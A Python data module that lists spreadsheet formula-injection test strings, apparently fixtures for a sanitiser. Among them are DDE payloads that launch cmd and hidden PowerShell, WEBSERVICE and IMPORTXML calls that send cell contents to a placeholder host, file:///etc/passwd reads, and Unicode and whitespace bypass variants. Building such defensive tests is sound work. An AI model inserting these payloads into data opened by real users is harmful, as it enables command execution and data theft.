"""Texts that a spreadsheet would run, if it took them for formulas. Published payloads, and ways round a guard."""

FORMULAS = [
    "=1+1", "+45", "-5", "@SUM(1)", "'=x", "''+1", "=HYPERLINK(\"http://x\";\"y\")", "-1-1", "+1,5", "=cmd|' /C calc'!A0",
    "=cmd|'/c powershell.exe -w hidden'!_xlbgnm.A1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://127.0.0.1:9/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://127.0.0.1:9/\";A1);\"//a\")", "=IMPORTDATA(\"http://127.0.0.1:9/\")", "=IMAGE(\"http://127.0.0.1:9/\")",
    "=HYPERLINK(\"file:///etc/passwd\";\"click\")", "='file:///etc/passwd'#$passwd.A1", "=INFO(\"directory\")", "=10+20+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=SUM(A1:A9)*1", "=-1", "=+1", "--1", "++1", "@@x", "=\"a\"", "'+\"1\"",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\u22121", "%0A=1+1", "x\n=1+1", "x\r\n=1+1", "x\t=1+1", "x;=1+1", "x,=1+1", "\"=1+1\"",
    "\";=1+1;\"", "\",=1+1,\"", "{=1+1}", "=1+1'", "\u200b=1+1", "\ufeff=1+1",
]

# What a reader takes away at the ends of a cell, and what then stands first.
PADDED = [" =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1", "\t@SUM(1)", " \t +1", "\u2003-1"]
